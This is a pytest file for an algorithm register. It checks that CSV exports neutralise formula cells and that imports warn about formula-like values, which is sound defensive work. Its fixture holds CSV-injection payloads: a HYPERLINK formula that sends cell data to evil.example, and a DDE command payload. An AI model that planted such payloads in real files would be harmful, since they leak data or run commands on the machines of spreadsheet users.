"""CSV exports never hand a spreadsheet a formula; imports warn about formula-like values."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from portal.extensions import db
from register import exchange, queries
from tests.import_helpers import row, run_import, write_json

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "description_short": "+1+cmd|' /C calc'!A0",
    "provider": "-2+3",
    "source_id": "@SUM(1+1)",
    "tags": "\t=1+1",
    "url": "\r=1+1",
    "website": "'=al geneutraliseerd",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(body: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))


def _publish_formulas(app, tmp_path) -> None:
    record = {**row("placeholder", "Gemeente Zwolle"), **FORMULAS}
    # `category` holds permitted values only; a group title carries a formula instead.
    record["lawful_basis_grouping"] = [{"title": "=1+1", "link": "https://wetten.nl"}]
    result = run_import(app, write_json(tmp_path / "formulas.json", [record]))
    assert "1 imported" in result.output, result.output


def _assert_neutralised(rows: list[dict]) -> None:
    assert rows
    for record in rows:
        for column, value in record.items():
            assert not value.startswith(TRIGGERS), (column, value)


def test_the_public_csv_export_neutralises_formula_cells(app, client, tmp_path):
    _publish_formulas(app, tmp_path)
    rows = _cells(client.get("/algoritmes.csv").get_data(as_text=True))
    _assert_neutralised(rows)
    assert rows[0]["name"] == "'" + FORMULAS["name"]
    # A value that already starts with a quote before a formula gets one more (reversible).
    assert rows[0]["website"] == "''=al geneutraliseerd"


@pytest.mark.parametrize("extra", [[], ["--with-utrecht-fields"]])
def test_the_cli_csv_export_neutralises_formula_cells(app, tmp_path, extra):
    _publish_formulas(app, tmp_path)
    result = CliRunner().invoke(
        app.cli, ["register", "export", "--format", "csv", *extra], catch_exceptions=False
    )
    rows = _cells(result.output)
    _assert_neutralised(rows)
    assert rows[0]["provider"] == "'-2+3"


def test_neutralised_exports_import_back_to_the_same_content(app, tmp_path):
    _publish_formulas(app, tmp_path)
    before = {a.slug: a.content for a in queries.all_published(db.session)}
    path = tmp_path / "export.csv"
    CliRunner().invoke(
        app.cli,
        ["register", "export", "--format", "csv", "--with-utrecht-fields", "-o", str(path)],
        catch_exceptions=False,
    )
    assert "1 unchanged" in run_import(app, path).output
    db.session.expire_all()
    assert {a.slug: a.content for a in queries.all_published(db.session)} == before


def test_the_import_report_warns_per_field_about_formula_values(app, tmp_path):
    record = row("Gewoon", "Gemeente Zwolle", provider="=HYPERLINK(1)", tags="@x")
    record["lawful_basis_grouping"] = [{"title": "+wet", "link": "https://wetten.nl"}]
    record["goal"] = "\t<p>tekst</p>"
    result = run_import(
        app, write_json(tmp_path / "a.json", [record, row("Ander", "Gemeente Zwolle")])
    )
    out = result.output
    assert "warning: #1 Gewoon: provider: starts with '='" in out
    assert "warning: #1 Gewoon: tags: starts with '@'" in out
    assert "warning: #1 Gewoon: lawful_basis_grouping[0].title: starts with '+'" in out
    assert "warning: #1 Gewoon: goal: starts with '\\t'" in out
    assert "warning: #2" not in out
    assert out.count("warning: #1 Gewoon: provider") == 1


def test_a_csv_import_warns_about_formulas_after_undoing_our_own_quote(app, tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(
        "name,description_short,organization,status,contact_email,publication_category\n"
        "'=1+1,Kort.,Gemeente Zwolle,In gebruik,a@zwolle.nl,Overige algoritmes\n",
        encoding="utf-8",
    )
    result = run_import(app, path)
    assert "warning: line 2 '=1+1: name: starts with '='" in result.output


@given(st.text(max_size=20))
def test_neutralising_is_safe_and_reversible_for_any_text(value):
    safe = exchange.neutralise_cell(value)
    assert not safe.startswith(TRIGGERS)
    assert exchange.restore_cell(safe) == value
